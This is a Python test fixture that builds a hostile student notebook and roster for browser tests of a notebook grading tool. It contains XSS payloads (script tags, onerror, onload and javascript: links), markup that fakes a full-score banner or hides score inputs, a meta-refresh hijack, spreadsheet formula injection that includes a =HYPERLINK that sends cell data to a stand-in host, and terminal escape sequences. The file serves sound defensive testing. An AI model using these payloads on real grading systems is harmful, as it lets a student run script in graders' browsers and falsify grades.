"""A hostile submission for the browser tests: every payload writes `RAN:<name>` to the console if it runs, next to
the legitimate content a lesson shows (a heading, a table, a formula, a figure as PNG and as SVG)."""
import copy

MARK = "PAYLOAD-RAN:"


def _log(name):
    return f"console.log('{MARK}{name}')"


# markdown cells and written answers: raw HTML is part of markdown
MARKDOWN_PAYLOADS = {
    "script": f"<script>{_log('{where}-script')}</script>",
    "img-onerror": f"<img src=x onerror=\"{_log('{where}-img-onerror')}\">",
    "svg-onload": f"<svg onload=\"{_log('{where}-svg-onload')}\"></svg>",
    "iframe-srcdoc": f"<iframe srcdoc=\"&lt;script&gt;{_log('{where}-iframe-srcdoc')}&lt;/script&gt;\"></iframe>",
    "details-ontoggle": f"<details open ontoggle=\"{_log('{where}-details-ontoggle')}\"><summary>more</summary>x</details>",
    "javascript-link": f"<a href=\"javascript:{_log('{where}-javascript-link')}\">PAYLOAD LINK {{where}}</a>",
}

# Markup that would draw over the page: Bootstrap's fixed and backdrop classes, and a heading that takes the id of
# the written answer's score box (the formgrader finds each box by its id).
COVER_MARKDOWN = """<div class="navbar navbar-default navbar-fixed-top">FAKE BANNER: Total 36/36</div>

<div class="modal-backdrop in"></div>

<div class="affix" data-spy="affix">FAKE AFFIX: Total 36/36</div>

<h2 id="{answer_id}">A heading named like a score box</h2>
"""
# a picture whose width metadata, written unquoted into <img>, adds a style that covers the whole window
PNG = ("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==")
IMAGE_WIDTH = "1 style=position:fixed;inset:0;width:100vw;height:100vh;z-index:99999;background:white"

# code cell outputs, made when the submission is graded (nbgrader runs the cell)
OUTPUT_CELL = f'''from IPython.display import HTML, Javascript, Markdown, SVG, display
display(HTML("<script>{_log('out-html-script')}</script>"))
display(HTML("<img src=x onerror=\\"{_log('out-html-img-onerror')}\\">"))
display(Markdown("<img src=x onerror=\\"{_log('out-markdown-img-onerror')}\\">"))
display(Javascript("{_log('out-javascript')}"))
display({{"text/html": "<b>raw</b><img src=x onerror=\\"{_log('out-raw-html-handler')}\\">"}}, raw=True)
display({{"text/html": "<img src=x onerror=\\"{_log('out-isolated-html')}\\">"}}, raw=True,
        metadata={{"text/html": {{"isolated": True}}}})
display(SVG("<svg xmlns='http://www.w3.org/2000/svg' onload=\\"{_log('out-svg-onload')}\\" width='10' height='10'>"
            "<script>{_log('out-svg-script')}</script></svg>"))
display({{"image/png": "{PNG}"}}, raw=True, metadata={{"image/png": {{"width": "{IMAGE_WIDTH}"}}}})
'''

LEGIT_MARKDOWN = r"""## A heading the lesson shows

A paragraph with *emphasis*, `code` and a [link](https://example.org/embeddings).

| id | row |
|---|---|
| 3 | 0.25 |

The lookup cost is $$\sum_{i=1}^{n} d_i$$ bytes read.

- one item
- two items
"""

# the lesson's kind of figure, and a table as pandas writes one (a scoped <style> and a class)
LEGIT_OUTPUT_CELL = '''import io
import matplotlib
matplotlib.use("Agg")
import matplotlib.pyplot as plt
from IPython.display import HTML, SVG, Image, display
fig, ax = plt.subplots(figsize=(2, 2))
ax.plot([0, 1, 2], [0, 1, 4])
png = io.BytesIO()
fig.savefig(png, format="png")
display(Image(png.getvalue()))
svg = io.StringIO()
fig.savefig(svg, format="svg")
display(SVG(svg.getvalue()))
plt.close(fig)
display(HTML('<div><style scoped>.dataframe tbody tr th {vertical-align: top;}</style>'
             '<table border="1" class="dataframe"><thead><tr style="text-align: right;"><th></th><th>loss</th></tr>'
             '</thead><tbody><tr><th>0</th><td>0.125</td></tr></tbody></table></div>'))
'''

# Roster fields and folder names a student (or whoever typed the roster) chose: markup for the formgrader, formulas
# for the spreadsheet that opens the grades, terminal escape sequences for the console.
HOSTILE_ROSTER = [
    {"id": "hostile", "first_name": "<style>input.score{display:none}</style>Eve",
     "last_name": '<meta http-equiv="refresh" content="0;url=about:blank#hijacked"><b id="roster-injected">Mallory</b>',
     "email": '=HYPERLINK("http://e.test/?"&A1,"open")', "lms_user_id": "4501", "sis_user_id": "@SUM(1)"},
    {"id": "flagged", "first_name": "-1+1", "last_name": "+Flag", "email": "flagged@uni.edu", "lms_user_id": "4502",
     "sis_user_id": "S-2"},
]


def hostile_roster_csv():
    "The roster above as a CSV `tinytorch grade --roster` reads."
    import csv
    import io
    out = io.StringIO()
    w = csv.DictWriter(out, list(HOSTILE_ROSTER[0]))
    w.writeheader()
    w.writerows(HOSTILE_ROSTER)
    return out.getvalue()


ESCAPE_FOLDER = "\x1b[1A\x1b[2K\rmallory"      # up one line, erase it, back to its start: rewrites the console
FORMULA_FOLDER = "=1+2"

COMMENT = f"Nice work <img src=x onerror=\"{_log('comment-img-onerror')}\"> <script>{_log('comment-script')}</script>"


def markdown_payloads(where):
    return "\n\n".join(p.replace("{where}", where) for p in MARKDOWN_PAYLOADS.values())


def names(where):
    return {f"{where}-{name}" for name in MARKDOWN_PAYLOADS}


OUTPUT_NAMES = {"out-html-script", "out-html-img-onerror", "out-markdown-img-onerror", "out-javascript",
                "out-raw-html-handler", "out-isolated-html", "out-svg-onload", "out-svg-script"}
COMMENT_NAMES = {"comment-img-onerror", "comment-script"}


def _cell(kind, cell_id, source):
    cell = {"cell_type": kind, "id": cell_id, "metadata": {}, "source": source}
    if kind == "code":
        cell.update(execution_count=None, outputs=[])
    return cell


def hostile(solved, answer_id):
    """`solved` (a correct submission) with payloads in a markdown cell, in the written answer `answer_id` and in a
    code cell's outputs, and the legitimate content after the first cell."""
    nb = copy.deepcopy(solved)
    for cell in nb["cells"]:
        if cell["id"] == answer_id:
            cell["source"] = "My answer, with markup:\n\n" + markdown_payloads("answer")
    covering = _cell("markdown", "payload-cover", COVER_MARKDOWN.replace("{answer_id}", answer_id))
    covering["metadata"]["tags"] = ["x navbar-fixed-top"]       # a tag becomes a class of the whole cell
    extra = [_cell("markdown", "payload-markdown", markdown_payloads("md")), covering,
             _cell("code", "payload-outputs", OUTPUT_CELL),
             _cell("markdown", "legit-markdown", LEGIT_MARKDOWN),
             _cell("code", "legit-outputs", LEGIT_OUTPUT_CELL)]
    nb["cells"][1:1] = extra
    return nb
